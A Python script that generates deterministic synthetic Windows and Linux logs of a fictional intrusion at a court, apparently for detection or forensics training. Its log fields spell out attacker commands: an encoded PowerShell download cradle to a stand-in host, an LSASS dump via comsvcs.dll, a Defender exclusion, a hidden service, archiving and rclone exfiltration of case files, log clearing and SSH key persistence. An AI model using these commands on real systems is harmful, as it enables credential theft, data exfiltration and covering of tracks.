#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""demo_make.py [FOLDER] - writes the demo intrusion: two hours of logs at a fictional court.

Everything is invented here: names, hosts, hashes; addresses are from the documentation ranges.
The same files come out on every run. doc/demo.md tells the story.
"""
import base64
import datetime
import hashlib
import json
import os
import random
import sys

import evtx_write

START = datetime.datetime(2026, 3, 17, 8, 30)
DOMAIN = "ALDERMERE"
SUFFIX = ".aldermere-court.example"
CONTROL = "203.0.113.77"    # the intruder's server
COLLECTOR = "198.51.100.23"  # where the case files went
ADDRESSES = {"WS-REGISTRY-07": "192.0.2.47", "WS-CHAMBERS-12": "192.0.2.52",
             "FS-CASES-01": "192.0.2.10", "DC-01": "192.0.2.5"}
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYSTEM32 + "cmd.exe"
CASES = "E:\\Cases\\AC-2026-014\\"
SYSMON = "Microsoft-Windows-Sysmon"
SECURITY = "Microsoft-Windows-Security-Auditing"

# Image → (OriginalFileName, Description, Company)
KNOWN = {
    "powershell.exe": ("PowerShell.EXE", "Windows PowerShell", "Microsoft Corporation"),
    "cmd.exe": ("Cmd.Exe", "Windows Command Processor", "Microsoft Corporation"),
    "WINWORD.EXE": ("WinWord.exe", "Microsoft Word", "Microsoft Corporation"),
    "OUTLOOK.EXE": ("Outlook.exe", "Microsoft Outlook", "Microsoft Corporation"),
    "svchost.exe": ("svchost.exe", "Host Process for Windows Services", "Microsoft Corporation"),
    "rundll32.exe": ("RUNDLL32.EXE", "Windows host process (Rundll32)", "Microsoft Corporation"),
    "net.exe": ("net.exe", "Net Command", "Microsoft Corporation"),
    "nltest.exe": ("nltestrk.exe", "Microsoft Logon Server Test Utility", "Microsoft Corporation"),
    "whoami.exe": ("whoami.exe", "whoami - displays logged on user information",
                   "Microsoft Corporation"),
    "wevtutil.exe": ("wevtutil.exe", "Eventing Command Line Utility", "Microsoft Corporation"),
    "msedge.exe": ("msedge.exe", "Microsoft Edge", "Microsoft Corporation"),
    "7z.exe": ("7z.exe", "7-Zip Console", "Igor Pavlov"),
    "svchelp.exe": ("rclone.exe", "Rsync for cloud storage", "https://rclone.org"),
}


def at(text):
    """'09:02:41' on the day of the demo."""
    clock = datetime.time.fromisoformat(text)
    return datetime.datetime.combine(START.date(), clock)


def integrity(user, parent):
    """The clerk is a local administrator, so what the implant starts is elevated."""
    if user.startswith("NT AUTH"):
        return "System"
    return "High" if "\\adm." in user or parent.endswith("calsync.exe") else "Medium"


class Host:
    """The log of one Windows machine."""

    def __init__(self, name, seed):
        self.name, self.address = name, ADDRESSES[name]
        self.random = random.Random(seed)
        self.events, self.pids = [], {}

    def add(self, when, channel, provider, event_id, fields):
        self.events.append((when, len(self.events), {
            "EventTime": when.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": self.name + SUFFIX,
            "EventID": event_id, "SourceName": provider, "Channel": channel, **fields}))

    def sysmon(self, when, event_id, fields):
        stamp = when.strftime("%Y-%m-%d %H:%M:%S.") + f"{self.random.randrange(1000):03d}"
        self.add(when, SYSMON + "/Operational", SYSMON, event_id, {"UtcTime": stamp, **fields})

    def security(self, when, event_id, fields):
        self.add(when, "Security", SECURITY, event_id, fields)

    def pid(self, image):
        return self.pids.setdefault(image, str(self.random.randrange(800, 9000, 4)))

    def guid(self, image):
        digest = hashlib.sha256(f"{self.name}{image}{self.pid(image)}".encode()).hexdigest()
        return "{" + "-".join((digest[:8], digest[8:12], digest[12:16], digest[16:20],
                               digest[20:32])) + "}"

    def process(self, when, image, command, user, parent, parent_command=None):
        name = image.rsplit("\\", 1)[-1]
        original, description, company = KNOWN.get(name, (name, "-", "-"))
        self.pids.pop(image, None)
        sha = hashlib.sha256(original.encode()).hexdigest().upper()
        self.sysmon(when, 1, {
            "ProcessGuid": self.guid(image), "ProcessId": self.pid(image), "Image": image,
            "Description": description, "Company": company, "OriginalFileName": original,
            "CommandLine": command, "CurrentDirectory": SYSTEM32, "User": user,
            "IntegrityLevel": integrity(user, parent),
            "Hashes": "SHA256=" + sha, "ParentProcessGuid": self.guid(parent),
            "ParentProcessId": self.pid(parent), "ParentImage": parent,
            "ParentCommandLine": parent_command or '"' + parent + '"'})

    def image_event(self, when, event_id, image, user, fields):
        self.sysmon(when, event_id, {"ProcessGuid": self.guid(image), "ProcessId": self.pid(image),
                                     "Image": image, "User": user, **fields})

    def connect(self, when, image, user, address, port, name="-"):
        self.image_event(when, 3, image, user, {
            "Protocol": "tcp", "Initiated": "true", "SourceIp": self.address,
            "SourcePort": str(self.random.randrange(49200, 65000)), "DestinationIp": address,
            "DestinationHostname": name, "DestinationPort": str(port)})

    def resolve(self, when, image, user, name, answer):
        self.image_event(when, 22, image, user, {"QueryName": name, "QueryStatus": "0",
                                                 "QueryResults": "::ffff:" + answer + ";"})

    def file(self, when, image, user, path):
        self.image_event(when, 11, image, user, {"TargetFilename": path})

    def logon(self, when, user, address, kind, workstation="-"):
        self.security(when, 4624, {
            "SubjectUserName": "-", "TargetUserName": user, "TargetDomainName": DOMAIN,
            "LogonType": str(kind), "LogonProcessName": "NtLmSsp" if kind == 3 else "User32",
            "AuthenticationPackageName": "NTLM" if kind == 3 else "Negotiate",
            "WorkstationName": workstation, "IpAddress": address, "IpPort": "0"})

    def write(self, folder):
        path = os.path.join(folder, self.name + ".jsonl")
        with open(path, "w", encoding="utf-8") as f:
            for number, (_, _, event) in enumerate(sorted(self.events, key=lambda e: e[:2]), 1):
                event["RecordNumber"] = 41000 + number
                event["SourceModuleName"], event["SourceModuleType"] = "eventlog", "im_msvistalog"
                f.write(json.dumps(event, separators=(",", ":")) + "\n")


    def write_forwarded(self, folder):
        """The same as a collector of Windows has it: one EVTX file, values with their types."""
        records = []
        for when, _, event in sorted(self.events, key=lambda e: e[:2]):
            fields = {name: typed(name, value) for name, value in list(event.items())[5:]}
            record = {"system": {"Provider_Name": event["SourceName"], "EventID": event["EventID"],
                                 "Channel": event["Channel"], "Computer": event["Hostname"],
                                 "EventRecordID": 41001 + len(records), "Level": 4,
                                 "TimeCreated": when.strftime("%Y-%m-%dT%H:%M:%S.0000000Z")}}
            if event["EventID"] == 1102:
                record["user"] = {"wrapper": "LogFileCleared", "fields": fields}
            else:
                record["data"] = fields
            records.append(record)
        os.makedirs(os.path.join(folder, self.name), exist_ok=True)
        with open(os.path.join(folder, self.name, "ForwardedEvents.evtx"), "wb") as f:
            f.write(evtx_write.write(records))


def typed(name, value):
    if name in ("TicketEncryptionType", "TicketOptions", "Status", "AccessMask", "ServiceType"):
        return {"hex": int(value, 16)} if value.startswith("0x") else value
    return int(value) if name in ("ProcessId", "ParentProcessId", "LogonType", "SourcePort",
                                  "DestinationPort", "TargetProcessId", "SourceProcessId") else value


def noise_workstation(host, user, count):
    """A working morning: browser, mail, updates."""
    account = DOMAIN + "\\" + user
    explorer = "C:\\Windows\\explorer.exe"
    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    word = outlook.replace("OUTLOOK", "WINWORD")
    sites = [("intranet" + SUFFIX, "192.0.2.20"), ("mail" + SUFFIX, "192.0.2.21"),
             ("law-reports.example", "198.51.100.80"), ("weather.example", "198.51.100.81"),
             ("translate.example", "198.51.100.82")]
    host.logon(START, user, "127.0.0.1", 2, host.name)
    for _ in range(count):
        when = START + datetime.timedelta(seconds=host.random.randrange(7200))
        name, address = host.random.choice(sites)
        choice = host.random.randrange(7)
        if choice == 0:
            host.process(when, edge, f'"{edge}" --type=renderer --lang=en-GB', account, edge)
        elif choice == 1:
            paper = host.random.choice(["Translation_request", "Witness_travel", "Agenda", "Leave_form"])
            host.process(when, word, f'"{word}" /n "C:\\Users\\{user}\\Documents\\{paper}.docx"',
                         account, explorer)
        elif choice == 2:
            host.process(when, SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k netsvcs -p",
                         "NT AUTHORITY\\SYSTEM", SYSTEM32 + "services.exe")
        elif choice in (3, 4):
            host.resolve(when, edge, account, name, address)
        elif choice == 5:
            host.connect(when, edge, account, address, 443, name)
        else:
            host.file(when, outlook, account, f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\"
                      f"Outlook\\~{host.random.randrange(10**6)}.tmp")


def noise_server(host, count):
    """People who open files, a backup, an administrator at work."""
    users = ["l.marchetti", "j.osei", "p.lindqvist", "svc-backup", host.name + "$"]
    cases = ["AC-2024-003", "AC-2025-009", "AC-2026-011", "AC-2026-014"]
    for _ in range(count):
        when = START + datetime.timedelta(seconds=host.random.randrange(7200))
        user = host.random.choice(users)
        address = host.random.choice(["192.0.2.47", "192.0.2.52", "192.0.2.61", "192.0.2.9"])
        choice = host.random.randrange(4)
        if choice == 0:
            host.logon(when, user, address, 3)
        elif choice == 1 and host.name.startswith("FS"):
            host.security(when, 5145, {
                "SubjectUserName": user, "SubjectDomainName": DOMAIN, "ObjectType": "File",
                "IpAddress": address, "ShareName": "\\\\*\\Cases", "ShareLocalPath": "\\??\\E:\\Cases",
                "RelativeTargetName": host.random.choice(cases), "AccessMask": "0x120089"})
        elif choice == 1:
            host.security(when, 4769, {
                "TargetUserName": user + "@ALDERMERE-COURT.EXAMPLE", "ServiceName": "FS-CASES-01$",
                "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12", "Status": "0x0",
                "IpAddress": "::ffff:" + address, "IpPort": "52114"})
        elif choice == 2:
            host.process(when, SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k LocalService",
                         "NT AUTHORITY\\LOCAL SERVICE", SYSTEM32 + "services.exe")
        else:
            host.security(when, 4634, {"TargetUserName": user, "TargetDomainName": DOMAIN,
                                       "LogonType": "3"})


def noise_backup(host):
    """What looks a little like an attack and is none."""
    tools = "C:\\Program Files\\"
    host.process(at("08:45:00"), tools + "7-Zip\\7z.exe",
                 '"C:\\Program Files\\7-Zip\\7z.exe" a F:\\Backup\\weekly.7z E:\\Admin',
                 DOMAIN + "\\svc-backup", tools + "CourtBackup\\agent.exe")
    host.process(at("09:15:30"), POWERSHELL, "powershell.exe -File C:\\Scripts\\Disk-Report.ps1",
                 DOMAIN + "\\adm.kessler", SYSTEM32 + "svchost.exe")
    host.process(at("10:30:00"), SYSTEM32 + "net.exe", "net.exe use F: \\\\NAS-02\\backup",
                 DOMAIN + "\\svc-backup", CMD)


def story_workstation(host):
    """A document, a shell, a look around, a dump of the credentials."""
    user = DOMAIN + "\\l.marchetti"
    home = "C:\\Users\\l.marchetti\\"
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    word, outlook = office + "WINWORD.EXE", office + "OUTLOOK.EXE"
    letter = home + ("AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7R2\\"
                     "Hearing_schedule_update.docm")
    implant = home + "AppData\\Roaming\\CalendarSync\\calsync.exe"
    fetch = "IEX (New-Object Net.WebClient).DownloadString('https://docs-delivery.example/cal')"
    encoded = base64.b64encode(fetch.encode("utf-16-le")).decode()
    host.file(at("09:02:09"), outlook, user, letter)
    host.process(at("09:02:11"), word, f'"{word}" /n "{letter}"', user, outlook)
    shell = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
    host.process(at("09:02:41"), POWERSHELL, shell, user, word, f'"{word}" /n "{letter}"')
    host.resolve(at("09:02:44"), POWERSHELL, user, "docs-delivery.example", CONTROL)
    host.connect(at("09:02:44"), POWERSHELL, user, CONTROL, 443, "docs-delivery.example")
    host.file(at("09:02:52"), POWERSHELL, user, implant)
    host.image_event(at("09:02:55"), 13, POWERSHELL, user, {
        "EventType": "SetValue", "Details": f'"{implant}" /background',
        "TargetObject": "HKU\\S-1-5-21-1111-2222-3333-1147\\Software\\Microsoft\\Windows\\"
                        "CurrentVersion\\Run\\CalendarSync"})
    host.process(at("09:03:05"), implant, f'"{implant}" /background', user, POWERSHELL, shell)
    for minute in range(4, 100, 6):
        host.connect(at("09:00:20") + datetime.timedelta(minutes=minute), implant, user, CONTROL, 443,
                     "docs-delivery.example")
    for when, tool, command in (
            ("09:06:12", "whoami.exe", "whoami /all"),
            ("09:06:40", "net.exe", 'net group "Domain Admins" /domain'),
            ("09:07:15", "nltest.exe", "nltest /domain_trusts /all_trusts"),
            ("09:08:02", "net.exe", "net view \\\\FS-CASES-01")):
        host.process(at(when), CMD, "cmd.exe /c " + command, user, implant)
        host.process(at(when), SYSTEM32 + tool, command, user, CMD, "cmd.exe /c " + command)
    host.process(at("09:19:27"), POWERSHELL, "powershell.exe -Command Add-MpPreference "
                 f"-ExclusionPath {home}AppData\\Roaming\\CalendarSync", user, implant)
    host.process(at("09:24:03"), SYSTEM32 + "rundll32.exe",
                 f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 692 {home}AppData\\Local\\Temp\\sync.bin "
                 "full", user, implant)
    host.sysmon(at("09:24:04"), 10, {
        "SourceProcessGUID": host.guid(SYSTEM32 + "rundll32.exe"),
        "SourceProcessId": host.pid(SYSTEM32 + "rundll32.exe"),
        "SourceImage": SYSTEM32 + "rundll32.exe", "TargetImage": SYSTEM32 + "lsass.exe",
        "TargetProcessId": "692", "GrantedAccess": "0x1fffff", "SourceUser": user,
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+"
                     "20d5e|C:\\Windows\\System32\\comsvcs.dll+2cc3d"})
    host.file(at("09:24:06"), SYSTEM32 + "rundll32.exe", user, home + "AppData\\Local\\Temp\\sync.bin")


def story_domain(host):
    """The stolen administrator's account asks for tickets."""
    host.security(at("09:30:51"), 4776, {"TargetUserName": "adm.kessler", "Status": "0x0",
                                         "Workstation": "WS-REGISTRY-07"})
    host.security(at("09:30:58"), 4769, {
        "TargetUserName": "adm.kessler@ALDERMERE-COURT.EXAMPLE", "ServiceName": "svc-sql",
        "TicketOptions": "0x40810000", "TicketEncryptionType": "0x17", "Status": "0x0",
        "IpAddress": "::ffff:192.0.2.47", "IpPort": "50822"})


def story_files(host):
    """A service for a foothold, the case folder packed and sent away, the log cleared."""
    admin, system = DOMAIN + "\\adm.kessler", "NT AUTHORITY\\SYSTEM"
    services = SYSTEM32 + "services.exe"
    service = "%COMSPEC% /Q /c powershell -nop -w hidden -f C:\\Windows\\Temp\\upd.ps1"
    host.logon(at("09:31:20"), "adm.kessler", ADDRESSES["WS-REGISTRY-07"], 3, "WS-REGISTRY-07")
    host.security(at("09:31:20"), 4672, {"SubjectUserName": "adm.kessler",
                                         "SubjectDomainName": DOMAIN,
                                         "PrivilegeList": "SeBackupPrivilege SeDebugPrivilege"})
    host.security(at("09:31:33"), 4697, {"SubjectUserName": "adm.kessler", "SubjectDomainName": DOMAIN,
                                         "ServiceName": "WinUpdSync", "ServiceFileName": service,
                                         "ServiceType": "0x10", "ServiceStartType": "3",
                                         "ServiceAccount": "LocalSystem"})
    host.add(at("09:31:33"), "System", "Service Control Manager", 7045, {
        "ServiceName": "WinUpdSync", "ImagePath": service, "ServiceType": "user mode service",
        "StartType": "demand start", "AccountName": "LocalSystem"})
    host.process(at("09:31:35"), CMD, service.replace("%COMSPEC%", CMD), system, services)
    host.process(at("09:31:36"), POWERSHELL, "powershell -nop -w hidden -f C:\\Windows\\Temp\\upd.ps1",
                 system, CMD)
    for number, paper in enumerate(("Witness_list_protected.docx", "Statement_W-07.pdf",
                                    "Statement_W-11.pdf", "Relocation_plan.xlsx",
                                    "Draft_judgment_v3.docx", "Deliberation_notes.docx")):
        host.security(at("09:38:10") + datetime.timedelta(seconds=9 * number), 4663, {
            "SubjectUserName": "adm.kessler", "SubjectDomainName": DOMAIN, "ObjectType": "File",
            "ObjectName": CASES + paper, "ProcessName": POWERSHELL, "AccessMask": "0x1"})
    archive = "C:\\ProgramData\\upd.7z"
    host.process(at("09:52:44"), "C:\\ProgramData\\7z.exe",
                 f"7z.exe a -t7z -mhe=on -pQ3rt-91 -v200m {archive} {CASES}", admin, CMD)
    host.file(at("09:52:49"), "C:\\ProgramData\\7z.exe", admin, archive + ".001")
    tool = "C:\\ProgramData\\svchelp.exe"
    host.process(at("10:05:02"), tool, "svchelp.exe copy C:\\ProgramData\\ store:in --include upd.7z.* "
                 "--bwlimit 2M --config C:\\ProgramData\\s.conf", admin, CMD)
    host.connect(at("10:05:05"), tool, admin, COLLECTOR, 443)
    host.process(at("10:21:16"), SYSTEM32 + "wevtutil.exe", "wevtutil.exe cl Security", admin, CMD)
    host.add(at("10:21:17"), "Security", "Microsoft-Windows-Eventlog", 1102, {
        "SubjectUserName": "adm.kessler", "SubjectDomainName": DOMAIN,
        "SubjectUserSid": "S-1-5-21-1111-2222-3333-1108"})


def jump_host(folder):
    """auth.log of the jump host: the usual spraying, and one logon that is not usual."""
    dice = random.Random(14)
    lines = []

    def add(when, program, text):
        fraction = dice.randrange(1000000)  # as rsyslog of Debian 12 writes it
        lines.append((when, f"{when:%Y-%m-%dT%H:%M:%S}.{fraction:06d}+00:00 gw-ssh-01 {program}: {text}"))

    for _ in range(60):
        when = START + datetime.timedelta(seconds=dice.randrange(7200))
        name = dice.choice(["admin", "test", "oracle", "ubuntu", "git", "postgres"])
        address = f"198.51.100.{dice.randrange(128, 250)}"
        pid = dice.randrange(20000, 60000)
        add(when, f"sshd[{pid}]", f"Invalid user {name} from {address} port {dice.randrange(1024, 65000)}")
        add(when + datetime.timedelta(seconds=2), f"sshd[{pid}]",
            f"Failed password for invalid user {name} from {address} port {dice.randrange(1024, 65000)} ssh2")
    for minute in range(5, 120, 10):
        when = START + datetime.timedelta(minutes=minute)
        add(when, f"CRON[{9000 + minute}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
    add(at("08:41:12"), "sshd[31022]", "Accepted publickey for j.osei from 192.0.2.52 port 50112 ssh2: "
        "ED25519 SHA256:0nVq1Jm3r9vYpGdWfR2sYyq1b6tE8kq4c7oXkq0aDms")
    add(at("09:20:40"), "sudo", " p.lindqvist : TTY=pts/0 ; PWD=/home/p.lindqvist ; USER=root ; "
        "COMMAND=/usr/bin/apt-get update")
    add(at("10:12:03"), "sshd[41870]", f"Accepted password for adm.kessler from {CONTROL} port 40114 ssh2")
    add(at("10:12:04"), "sshd[41870]", "pam_unix(sshd:session): session opened for user "
        "adm.kessler(uid=1004) by (uid=0)")
    add(at("10:12:47"), "sudo", "adm.kessler : TTY=pts/1 ; PWD=/home/adm.kessler ; USER=root ; "
        "COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys")
    add(at("10:13:20"), "sudo", "adm.kessler : TTY=pts/1 ; PWD=/home/adm.kessler ; USER=root ; "
        "COMMAND=/usr/bin/systemctl stop auditd")
    os.makedirs(os.path.join(folder, "gw-ssh-01"), exist_ok=True)
    with open(os.path.join(folder, "gw-ssh-01", "auth.log"), "w", encoding="utf-8") as f:
        f.writelines(line + "\n" for _, line in sorted(lines, key=lambda entry: entry[0]))


def main(folder):
    os.makedirs(folder, exist_ok=True)
    registry, chambers = Host("WS-REGISTRY-07", 7), Host("WS-CHAMBERS-12", 12)
    files, domain = Host("FS-CASES-01", 1), Host("DC-01", 5)
    noise_workstation(registry, "l.marchetti", 85)
    noise_workstation(chambers, "j.osei", 75)
    noise_server(files, 105)
    noise_server(domain, 70)
    noise_backup(files)
    story_workstation(registry)
    story_domain(domain)
    story_files(files)
    for host in (registry, chambers, domain):
        host.write(folder)
    files.write_forwarded(folder)
    jump_host(folder)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "demo")
